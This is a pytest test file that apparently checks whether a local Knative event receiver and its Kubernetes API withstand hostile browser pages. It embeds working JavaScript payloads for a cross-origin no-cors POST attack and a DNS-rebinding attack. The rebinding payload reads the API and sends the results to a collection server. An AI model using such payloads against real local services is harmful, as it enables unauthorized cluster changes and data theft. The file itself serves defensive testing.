"""A real browser that shows a hostile page, in front of a real receiver and a real Kubernetes API.

The browser's own check of requests to local networks is off: not every browser has one, and people
click it away.
"""

import asyncio
import json
import os
import shutil
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue

import pytest
import uvicorn

from distributary.core import filter as filter_room
from distributary.core.clock import SystemClock, SystemRandom
from distributary.core.database import sqlite_url
from distributary.knative import kinds as knative
from distributary.knative.apiserver.http import KubernetesApi
from distributary.knative.apiserver.objects import Objects
from distributary.server.ingest import IngestSettings, serve
from kit.ports import free_port
from kit.servers.fixtures import not_run

pytestmark = pytest.mark.slow

REPORT_S_MAX = 90.0
"""Longest wait for the page to say what it did: a browser begins in a few seconds."""

RULES = filter_room.check

TRIGGERS = "/apis/eventing.knative.dev/v1/namespaces/default/triggers"
STOLEN = json.dumps(
    {
        "apiVersion": "eventing.knative.dev/v1",
        "kind": "Trigger",
        "metadata": {"name": "stolen"},
        "spec": {"broker": "default", "subscriber": {"uri": "http://127.0.0.1:1/"}},
    }
)

CROSS_ORIGIN = """<script>(async () => {
  const body = new Blob([JSON.stringify(%(stolen)s)]);
  const sent = [];
  for (const type of [null, "text/plain"]) {
    const blob = type ? new Blob([body], {type}) : body;
    sent.push(await fetch("http://127.0.0.1:%(port)d%(path)s",
                          {method: "POST", mode: "no-cors", body: blob})
                    .then(answer => answer.type, () => "kept from the page"));
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(sent)});
})()</script>"""
"""Needs no answer, and no leave: such requests are not preflighted."""

REBOUND = """<script>(async () => {
  const found = {};
  while (!("GET" in found)) {
    await new Promise(done => setTimeout(done, 50));
    try { found.GET = await (await fetch("%(path)s")).text(); } catch (error) { }
  }
  const sent = {method: "POST", headers: {"content-type": "application/json"},
                body: JSON.stringify(%(stolen)s)};
  found.POST = (await fetch("%(path)s", sent)).status;
  await fetch("http://127.0.0.1:%(reports)d/report",
              {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
})()</script>"""
"""Its server went away; its name leads to ours now, which the browser takes for the same."""


class NoAppends:
    """A log that nobody writes to here."""

    open = True
    splits = False

    def submit(self, *_arguments: object) -> None:
        raise AssertionError


class FrontDoor:
    """A receiver that passes what is not for it to a Kubernetes API, on a loop of its own."""

    def __init__(self, folder: Path) -> None:
        self.socket = folder / "control.sock"
        self.objects = Objects(
            sqlite_url(folder / "state.db"),
            kinds=knative.KINDS,
            admit=lambda kind, new, old: knative.admit(kind, new, old, RULES),
            default=knative.defaulted,
            clock=SystemClock(),
            new_uid=iter(map(str, range(1000))).__next__,
        )
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.thread.start()
        self.call(self._start())

    def call(self, coroutine):
        """The result of *coroutine*, on the loop."""
        return asyncio.run_coroutine_threadsafe(coroutine, self.loop).result(REPORT_S_MAX)

    async def _start(self) -> None:
        await self.objects.start()

        async def settled(*_arguments: object) -> None:
            return

        api = KubernetesApi(self.objects, settled, SystemClock(), SystemRandom())
        config = uvicorn.Config(api, uds=str(self.socket), lifespan="off", log_config=None)
        self.control = uvicorn.Server(config)
        self.serving = asyncio.ensure_future(self.control.serve())

    def listen(self, port: int) -> None:
        """Be there, on *port* of loopback."""
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("127.0.0.1", port))
        sock.listen()
        serving = serve(
            sock,
            NoAppends(),
            settings=IngestSettings(),
            control_socket=self.socket,
            clock=SystemClock(),
        )
        self.server = self.call(serving)

    def triggers(self) -> list[str]:
        """Names of the Triggers that there are."""
        return [stored.key.name for stored in self.objects.list(knative.TRIGGER)[0]]

    def close(self) -> None:
        """Be gone."""
        self.call(self.server.close(0))
        self.control.should_exit = True
        self.call(asyncio.wait_for(self.serving, REPORT_S_MAX))
        self.call(self.objects.close())
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join()
        self.loop.close()


class HostilePages:
    """A web server with one page; keeps what is reported to it.

    Args:
        page: What it shows.
        port: Where; 0: any.
    """

    def __init__(self, page: str, port: int = 0) -> None:
        self.reports: Queue[bytes] = Queue()
        self.shown = threading.Event()
        pages = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path != "/":
                    return  # unanswered: what the page asks for is not here, or not any more
                self._answer(page.encode())
                pages.shown.set()

            def do_POST(self) -> None:
                pages.reports.put(self.rfile.read(int(self.headers["content-length"])))
                self._answer(b"")

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.send_header("connection", "close")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_arguments: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.port: int = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def report(self):
        """What the page says that it did."""
        return json.loads(self.reports.get(timeout=REPORT_S_MAX))

    def close(self) -> None:
        """Be gone."""
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def browse(tmp_path):
    """Opens an address in a browser that knows nothing, until the test ends."""
    program = shutil.which("chromium")
    if program is None:
        not_run("chromium", "there is no chromium on this machine")
    started: list[subprocess.Popen] = []

    def open_page(url: str, *flags: str) -> None:
        command = [program, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic"]
        command += ["--no-first-run", "--disable-background-networking", "--disable-sync"]
        command += ["--disable-component-update", f"--user-data-dir={tmp_path / 'browser'}"]
        command += ["--disable-features=LocalNetworkAccessChecks", *flags]
        command += ["--remote-debugging-port=0", url]  # it stays until it is told to go
        quiet = subprocess.DEVNULL
        started.append(
            subprocess.Popen(
                command, stdin=quiet, stdout=quiet, stderr=quiet, start_new_session=True
            )
        )

    yield open_page
    for browser in started:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()


@pytest.fixture
def front_door(tmp_path) -> Iterator[FrontDoor]:
    """A receiver with the API behind it; it listens when it is told to."""
    door = FrontDoor(tmp_path)
    yield door
    door.close()


def test_a_page_of_another_origin_makes_no_trigger(browse, front_door):
    """Neither without a content type, which no browser asks leave for, nor with a plain one."""
    port = free_port()
    front_door.listen(port)
    pages = HostilePages(CROSS_ORIGIN % {"stolen": STOLEN, "port": port, "path": TRIGGERS})
    browse(f"http://127.0.0.1:{pages.port}/")
    assert pages.report() == ["kept from the page"] * 2  # by Cross-Origin-Resource-Policy
    pages.close()
    assert front_door.triggers() == []
    assert front_door.server.counters.refusals_by_code == {"cross-origin": 2}


def test_a_page_whose_name_comes_to_mean_us_reads_and_changes_nothing(browse, front_door):
    """DNS rebinding: to the browser we are the server that the page came from."""
    port = free_port()
    reports = HostilePages("")
    filled = {"stolen": STOLEN, "reports": reports.port, "path": TRIGGERS}
    pages = HostilePages(REBOUND % filled, port)
    browse(f"http://rebind.example:{port}/", "--host-resolver-rules=MAP rebind.example 127.0.0.1")
    assert pages.shown.wait(REPORT_S_MAX)
    pages.close()
    front_door.listen(port)
    found = reports.report()
    reports.close()
    assert "TriggerList" not in found["GET"]
    assert found["POST"] == 421
    assert front_door.triggers() == []
